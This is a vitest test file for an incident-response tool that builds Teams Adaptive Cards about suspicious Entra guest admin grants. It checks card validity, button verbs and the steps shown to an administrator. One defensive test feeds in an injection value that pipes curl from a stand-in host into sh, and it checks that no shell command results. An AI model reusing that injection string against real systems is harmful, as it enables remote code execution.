import { createRequire } from "node:module";
import { describe, expect, it } from "vitest";
import { auditCard } from "../../src/cards/audit-card.js";
import { incidentCard, noticeCard, VERBS } from "../../src/cards/incident-card.js";
import type { IncidentView } from "../../src/cards/incident-view.js";
import { inventoryCard } from "../../src/cards/inventory-card.js";
import { transferPolicySteps } from "../../src/respond/responders/transfer-policy-steps.js";
import type { IncidentState } from "../../src/store/incidents-repo.js";
import { cardTexts, reading } from "../helpers/adaptive-markdown.js";

/**
 * Every version of the incident card parses with the `adaptivecards` package without a validation error,
 * stays under Teams' 28 KB, gives every input an id and every Action.Execute a verb Warden knows, and
 * carries in its buttons only the incident id and version: never what to do.
 */

const require = createRequire(import.meta.url);
const AC = require("adaptivecards/dist/adaptivecards.js") as {
  AdaptiveCard: new () => {
    parse(json: unknown, context?: unknown): void;
    validateProperties(): { validationEvents: { message: string }[] };
  };
  SerializationContext: new () => {
    eventCount: number;
    getEventAt(i: number): { message: string; phase: number };
  };
};

const STATES: IncidentState[] = [
  "open",
  "pending",
  "approved",
  "executing",
  "contained",
  "partial",
  "failed",
  "denied",
  "expired",
  "auto-contained",
  "reverted",
];

function view(state: IncidentState, actions = 4): IncidentView {
  const t = Date.UTC(2026, 10, 2, 10, 0);
  return {
    id: "inc-0123456789abcdef",
    version: 7,
    state,
    severity: "critical",
    confidence: 0.97,
    title: "A guest was given admin rights and moved a subscription out of the directory",
    subject: {
      name: "it.support",
      userPrincipalName: "it.support_outlook-helpdesk.net#EXT#@contoso.onmicrosoft.com",
      kind: "guest",
      homeTenant: "outlook-helpdesk.net",
      enabled: true,
    },
    actor: {
      name: "Priya Raman",
      userPrincipalName: "priya.raman@contoso.onmicrosoft.com",
      ipAddress: "203.0.113.140",
    },
    timeline: Array.from({ length: 15 }, (_, i) => ({
      time: t + i * 60_000,
      text: `Step ${i}: something happened with a long description ${"x".repeat(80)}`,
    })),
    evidence: Array.from({ length: 10 }, (_, i) => ({
      text: `evidence ${i}`,
      url: `https://entra.microsoft.com/#view/${i}`,
    })),
    actions: Array.from({ length: actions }, (_, i) => ({
      id: `inc-0123456789abcdef:disable-account:user:${i}`,
      action: "disable-account",
      target: `user${i}@contoso.onmicrosoft.com`,
      changes: ["Set accountEnabled from true to false", "Revoke every sign-in session"],
      state: state === "pending" ? "planned" : state === "failed" ? "failed" : "done",
      outcome: "done",
    })),
    ...(state === "pending"
      ? { waitingBecause: "confidence 0.4 is under the automatic threshold 0.95" }
      : { decision: { by: "SOC Analyst", at: t, reason: "looks real" } }),
  };
}

function walk(node: unknown, visit: (el: Record<string, unknown>) => void): void {
  if (Array.isArray(node)) for (const n of node) walk(n, visit);
  else if (node !== null && typeof node === "object") {
    visit(node as Record<string, unknown>);
    for (const value of Object.values(node)) walk(value, visit);
  }
}

function problems(card: unknown): string[] {
  const parsed = new AC.AdaptiveCard();
  const context = new AC.SerializationContext();
  parsed.parse(card, context);
  const found: string[] = [];
  for (let i = 0; i < context.eventCount; i++) found.push(`parse: ${context.getEventAt(i).message}`);
  for (const e of parsed.validateProperties().validationEvents) found.push(`validate: ${e.message}`);
  walk(card, (el) => {
    if (typeof el["type"] === "string" && el["type"].startsWith("Input.") && typeof el["id"] !== "string")
      found.push(`${el["type"]} without id`);
    if (el["type"] === "Action.Execute" && ![...VERBS, "inventoryPage"].includes(el["verb"] as string))
      found.push(`Action.Execute without a known verb`);
    if (el["type"] === "TextBlock" && (typeof el["text"] !== "string" || el["text"] === ""))
      found.push("TextBlock without text");
  });
  return found;
}

describe("incident cards", () => {
  for (const state of STATES) {
    it(`the ${state} card is valid Adaptive Card 1.5, under 28 KB, with ids and verbs`, () => {
      const card = incidentCard(view(state, 20));
      expect(problems(card)).toEqual([]);
      expect(Buffer.byteLength(JSON.stringify(card))).toBeLessThan(28 * 1024);
    });
  }

  it("offers Approve, Approve selected and Deny while waiting; Retry after failure; Undo once contained", () => {
    const verbs = (state: IncidentState) => {
      const found: string[] = [];
      walk(incidentCard(view(state)), (el) => {
        if (el["type"] === "Action.Execute") found.push(String(el["verb"]));
      });
      return found.sort();
    };
    expect(verbs("pending")).toEqual(["approve", "approveSelected", "deny", "history"]);
    expect(verbs("failed")).toEqual(["history", "retry"]);
    expect(verbs("partial")).toEqual(["history", "retry", "undo"]);
    expect(verbs("contained")).toEqual(["history", "undo"]);
    expect(verbs("auto-contained")).toEqual(["history", "undo"]);
    expect(verbs("denied")).toEqual(["history"]);
    expect(verbs("expired")).toEqual(["history"]);
  });

  it("carries only the incident id and version in its buttons", () => {
    walk(incidentCard(view("pending")), (el) => {
      if (el["type"] === "Action.Execute")
        expect(el["data"]).toEqual({ incidentId: "inc-0123456789abcdef", version: 7 });
    });
  });

  it("keeps how it began and where it stands, names its incident id, and marks its sections as headings", () => {
    const card = incidentCard(view("pending"));
    const shown = cardTexts(card).map((t) => reading(t).shown);
    // Fifteen steps: the first four (the invitation, the grant), the count between, the last eight.
    const steps = shown
      .filter((t) => / UTC: Step \d+:/.test(t))
      .map((t) => Number(/Step (\d+)/.exec(t)?.[1]));
    expect(steps).toEqual([0, 1, 2, 3, 7, 8, 9, 10, 11, 12, 13, 14]);
    expect(shown).toContain("(3 steps between, in the audit trail)");
    // Times to the second.
    expect(shown.some((t) => t.startsWith("2026-11-02 10:00:00 UTC: Step 0:"))).toBe(true);
    expect(shown).toContain("Incident inc-0123456789abcdef");
    const headings: string[] = [];
    walk(card, (el) => {
      if (el["type"] === "TextBlock" && el["style"] === "heading")
        headings.push(reading(String(el["text"])).shown);
    });
    expect(headings).toEqual([
      "A guest was given admin rights and moved a subscription out of the directory",
      "Subject",
      "What happened",
      "Evidence",
      "Planned actions (what each will change)",
    ]);
  });

  it("says who decided, when, and why; and why it was not contained automatically", () => {
    const denied = JSON.stringify(incidentCard(view("denied")));
    expect(denied).toContain("Denied by SOC Analyst at 2026-11-02 10:00:00 UTC: looks real");
    // Reasons are escaped for markdown (src/cards/markdown-text.ts): compare what a reader sees.
    expect(cardTexts(incidentCard(view("pending"))).map((t) => reading(t).shown)).toContain(
      "Not contained automatically: confidence 0.4 is under the automatic threshold 0.95",
    );
  });

  it("numbers the steps a Global Administrator must take, as a reader sees them, the command whole", () => {
    const policy = {
      blockSubscriptionsLeavingTenant: true,
      blockSubscriptionsIntoTenant: false,
      exemptedPrincipals: [],
    };
    const base = view("partial", 1);
    const asked: IncidentView = {
      ...base,
      actions: [
        {
          id: "inc-0123456789abcdef:block-subscription-transfer:tenant",
          action: "block-subscription-transfer",
          target: "tenant contoso",
          changes: ["Block subscriptions from leaving the directory (was allowed)"],
          state: "awaiting-admin",
          outcome: "waiting for a Global Administrator: Microsoft lets only a Global Administrator ...",
          administratorSteps: transferPolicySteps(policy, "block"),
        },
      ],
    };
    const card = incidentCard(asked);
    expect(problems(card)).toEqual([]);
    const shown = cardTexts(card).map((t) => reading(t).shown);
    const at = shown.indexOf(
      "A Global Administrator must do this (block-subscription-transfer; Warden may not):",
    );
    expect(at).toBeGreaterThan(0);
    const steps = shown.slice(at + 1, at + 9);
    expect(steps.map((s) => s.slice(0, 3))).toEqual(["1. ", "2. ", "3. ", "4. ", "5. ", "6. ", "7. ", "8. "]);
    // The commands a reader copies are the ones Microsoft documents, one a line, the body as JSON.
    expect(steps.filter((s) => s.includes("az rest"))).toEqual([
      expect.stringContaining(
        'az rest --method post --url "/providers/Microsoft.Authorization/elevateAccess?api-version=2016-07-01"',
      ),
      expect.stringContaining(
        `az rest --method put --url "/providers/Microsoft.Subscription/policies/default?api-version=2021-10-01" --body '${JSON.stringify(policy)}'`,
      ),
    ]);
    expect(steps.some((s) => s.startsWith("4. Exempted users: none"))).toBe(true);
    // Once done, the steps are gone: the card shows them only while someone is asked.
    const done = incidentCard({
      ...asked,
      actions: asked.actions.map((a) => ({ ...a, state: "done", administratorSteps: undefined })),
    });
    expect(JSON.stringify(done)).not.toContain("must do this");
  });

  it("gives no shell command when the policy's exempted principals are not all object ids", () => {
    const steps = transferPolicySteps(
      {
        blockSubscriptionsLeavingTenant: true,
        blockSubscriptionsIntoTenant: false,
        exemptedPrincipals: ["x'; curl evil.example | sh; '"],
      },
      "block",
    );
    expect(steps.join("\n")).not.toContain("az rest --method put");
    expect(steps.join("\n")).not.toContain("curl");
    expect(steps).toContain(
      "(No shell command: the policy's exempted principals are not all object ids; use the portal.)",
    );
  });

  it("the inventory card is valid, pages eight at a time, and offers the next page while there is one", () => {
    const entry = (i: number) => ({
      id: `id-${i}`,
      displayName: `Guest ${i}`,
      userPrincipalName: `g${i}_partner.example#EXT#@contoso.onmicrosoft.com`,
      mail: `g${i}@partner.example`,
      userType: "Guest",
      homeDomain: "partner.example",
      createdDateTime: "2026-11-01T00:00:00Z",
      invitedBy: null,
      accountEnabled: true,
      lastSignIn: null,
      roles: [
        {
          kind: "entra" as const,
          roleId: "r",
          roleName: "Global Administrator",
          scope: "/",
          assignment: "active" as const,
        },
      ],
      risk: { recentlyCreated: true, riskyUser: i === 0, promotedSoonAfterCreation: false },
    });
    const entries = Array.from({ length: 20 }, (_, i) => entry(i));
    const first = inventoryCard(entries, 0);
    expect(problems(first)).toEqual([]);
    expect(JSON.stringify(first)).toContain("20 in all, 20 flagged, 0 disabled. Page 1 of 3.");
    expect(first["actions"]).toEqual([
      { type: "Action.Execute", verb: "inventoryPage", title: "Next page", data: { page: 1 } },
    ]);
    expect(inventoryCard(entries, 2)["actions"]).toEqual([]);
    expect(problems(inventoryCard([], 0))).toEqual([]);
  });

  it("the notice and audit-trail cards are valid too", () => {
    expect(problems(noticeCard("Refused", "You are not an approver."))).toEqual([]);
    const trail = Array.from({ length: 45 }, (_, i) => ({
      at: Date.UTC(2026, 10, 2) + i,
      action: "refused",
      actorName: "x",
      detail: { reason: "r" },
    }));
    expect(problems(auditCard("inc-1", trail))).toEqual([]);
  });

  it("the checker itself catches a missing verb, a missing input id and an empty TextBlock", () => {
    const bad = {
      type: "AdaptiveCard",
      version: "1.5",
      body: [{ type: "TextBlock", text: "" }, { type: "Input.Text" }, { type: "NotAnElement" }],
      actions: [{ type: "Action.Execute", title: "x" }],
    };
    expect(problems(bad).some((p) => p.startsWith("parse:") && p.includes("NotAnElement"))).toBe(true);
    expect(problems(bad)).toEqual(
      expect.arrayContaining([
        "Input.Text without id",
        "Action.Execute without a known verb",
        "TextBlock without text",
      ]),
    );
  });
});
